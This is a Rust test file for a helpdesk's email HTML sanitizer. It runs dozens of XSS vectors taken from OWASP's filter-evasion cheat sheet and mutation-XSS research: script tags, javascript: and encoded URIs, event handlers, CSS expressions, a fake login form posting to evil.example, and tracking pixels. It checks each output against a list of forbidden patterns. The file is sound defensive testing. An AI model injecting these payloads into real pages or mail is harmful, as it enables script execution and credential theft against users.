//! Hostile HTML, as attackers write it (OWASP's XSS filter evasion cheat
//! sheet and its mutation-XSS successors), through the desk's sanitizer:
//! each vector loses its dangerous part and keeps its harmless text.
#![allow(clippy::unwrap_used)]

use helpdesk_channels::email::{LINK_REL, sanitize_html};

/// (what an attacker sends, text that must survive it).
const VECTORS: &[(&str, &str)] = &[
    ("<script>alert('XSS')</script><p>Hello</p>", "Hello"),
    ("<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>Hello", "Hello"),
    ("<IMG SRC=\"javascript:alert('XSS');\">Hello", "Hello"),
    ("<IMG SRC=JaVaScRiPt:alert('XSS')>Hello", "Hello"),
    (
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>Hello",
        "Hello",
    ),
    ("<a href=\"jav&#x09;ascript:alert('XSS');\">Click</a>", "Click"),
    ("<a href=\"jav\tascript:alert('XSS');\">Click</a>", "Click"),
    ("<a href=\" &#14;  javascript:alert('XSS');\">Click</a>", "Click"),
    ("<a href=\"javascript&colon;alert(1)\">Click</a>", "Click"),
    ("<a href=\"vbscript:msgbox(1)\">Click</a>", "Click"),
    (
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Click</a>",
        "Click",
    ),
    ("<a href=\"//evil.example/login\">Click</a>", "Click"),
    ("<IMG SRC=# onmouseover=\"alert('xxs')\">Hello", "Hello"),
    ("<img src=x onerror=alert(1)>Hello", "Hello"),
    ("<img src=\"x` `<script>alert(1)</script>\"` `>Hello", "Hello"),
    ("<svg/onload=alert('XSS')>Hello", "Hello"),
    (
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>Click</text></a></svg>Hello",
        "Hello",
    ),
    ("<BODY ONLOAD=alert('XSS')>Hello</BODY>", "Hello"),
    ("<details open ontoggle=alert(1)>Hello</details>", "Hello"),
    ("<p onclick=\"alert(1)\" OnMouseOver=alert(2)>Hello</p>", "Hello"),
    ("<iframe src=\"javascript:alert(1)\"></iframe>Hello", "Hello"),
    ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>Hello", "Hello"),
    (
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>Hello",
        "Hello",
    ),
    ("<embed src=\"http://xss.rocks/xss.swf\">Hello", "Hello"),
    (
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">Hello",
        "Hello",
    ),
    (
        "<base href=\"http://evil.example/\"><a href=\"https://desk.example/x\">Hello</a>",
        "Hello",
    ),
    (
        "<link rel=\"stylesheet\" href=\"http://xss.rocks/xss.css\">Hello",
        "Hello",
    ),
    ("<style>@import 'http://xss.rocks/xss.css';</style>Hello", "Hello"),
    (
        "<style>li {list-style-image: url(\"javascript:alert('XSS')\");}</style><ul><li>Hello</li></ul>",
        "Hello",
    ),
    (
        "<div style=\"background-image: url(javascript:alert('XSS'))\">Hello</div>",
        "Hello",
    ),
    ("<div style=\"width: expression(alert('XSS'));\">Hello</div>", "Hello"),
    (
        "<div style=\"background:url(&quot;http://tracker.example/p.gif&quot;)\">Hello</div>",
        "Hello",
    ),
    (
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">Hello</DIV>",
        "Hello",
    ),
    (
        "<div style=\"xss:expr/*XSS*/ession(alert('XSS'))\">Hello</div>",
        "Hello",
    ),
    (
        "<div style=\"behavior: url(xss.htc); -moz-binding: url(x.xml#xss)\">Hello</div>",
        "Hello",
    ),
    (
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>Hello</td></tr></TABLE>",
        "Hello",
    ),
    (
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->Hello",
        "Hello",
    ),
    (
        "<form action=\"http://evil.example/\"><input name=\"password\"><button formaction=\"javascript:alert(1)\">Log in</button></form>",
        "Log in",
    ),
    (
        "<p>Hello</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<p>Hello</p>",
    ),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">Hello",
        "Hello",
    ),
    ("<video poster=javascript:alert(1)></video>Hello", "Hello"),
    (
        "<img srcset=\"http://tracker.example/a.png 1x\" alt=\"Company logo\">",
        "Company logo",
    ),
    (
        "<img src=\"http://tracker.example/pixel.gif?u=ana\" width=\"1\" height=\"1\" alt=\"pixel\"><p>Hello</p>",
        "Hello",
    ),
    (
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">Hello",
        "Hello",
    ),
    (
        "<a href=\"https://desk.example/help\" target=\"_blank\" ping=\"http://tracker.example/\">Help</a>",
        "Help",
    ),
];

/// What no sanitized output may contain, lower-cased.
const FORBIDDEN: &[&str] = &[
    "<script",
    "javascript",
    "vbscript",
    "data:",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<link",
    "<meta",
    "<base",
    "<form",
    "<input",
    "<button",
    "<svg",
    "<math",
    "<video",
    "<body",
    "srcdoc",
    "srcset",
    "formaction",
    "ping=",
    "url(",
    "expression",
    "behavior",
    "binding",
    "@import",
    "xss.rocks",
    "tracker.example",
    "evil.example",
    "alert(",
];

/// True when some tag in `html` carries an `on…=` attribute.
fn has_event_handler(html: &str) -> bool {
    html.split('<').skip(1).any(|tag| {
        let tag = tag.split('>').next().unwrap_or_default();
        tag.split(|c: char| c.is_whitespace() || c == '/')
            .skip(1)
            .any(|attr| attr.starts_with("on") && attr.contains('='))
    })
}

#[test]
fn every_hostile_vector_loses_its_payload_and_keeps_its_text() {
    for (hostile, harmless) in VECTORS {
        let clean = sanitize_html(hostile);
        let lower = clean.to_ascii_lowercase();
        for bad in FORBIDDEN {
            assert!(!lower.contains(bad), "{hostile:?} kept {bad:?}: {clean:?}");
        }
        assert!(
            !has_event_handler(&lower),
            "{hostile:?} kept an event handler: {clean:?}"
        );
        assert!(clean.contains(harmless), "{hostile:?} lost {harmless:?}: {clean:?}");
        // What comes out is already clean: serving a stored body again changes nothing.
        assert_eq!(sanitize_html(&clean), clean, "{hostile:?}");
    }
}

#[test]
fn links_stay_and_are_marked_not_to_be_trusted() {
    let clean = sanitize_html("<p>See <a href=\"https://desk.example/help?a=1&amp;b=2\">the help</a>.</p>");
    assert_eq!(
        clean,
        format!("<p>See <a href=\"https://desk.example/help?a=1&amp;b=2\" rel=\"{LINK_REL}\">the help</a>.</p>")
    );
    assert_eq!(LINK_REL, "noopener noreferrer nofollow");
    let mail = sanitize_html("<a href=\"mailto:ana@example.com\">Ana</a>");
    assert!(mail.contains("href=\"mailto:ana@example.com\""), "{mail}");
}

#[test]
fn inline_images_stay_and_remote_ones_lose_their_source() {
    let inline = sanitize_html("<img src=\"cid:logo@example.com\" alt=\"Logo\">");
    assert!(inline.contains("src=\"cid:logo@example.com\""), "{inline}");
    let remote = sanitize_html("<img src=\"https://cdn.example.com/logo.png\" alt=\"Logo\">");
    assert_eq!(remote, "<img alt=\"Logo\">");
}

#[test]
fn ordinary_mail_formatting_survives() {
    let html = "<div dir=\"ltr\"><p style=\"color: #333333; font-weight: bold\">Hi,</p>\
                <table><tr><td align=\"left\">Order</td><td>42</td></tr></table>\
                <blockquote>quoted <b>bold</b> <i>italic</i></blockquote><ul><li>one</li></ul></div>";
    let clean = sanitize_html(html);
    assert_eq!(
        clean,
        "<div dir=\"ltr\"><p style=\"color: #333333; font-weight: bold\">Hi,</p>\
         <table><tbody><tr><td align=\"left\">Order</td><td>42</td></tr></tbody></table>\
         <blockquote>quoted <b>bold</b> <i>italic</i></blockquote><ul><li>one</li></ul></div>"
    );
}
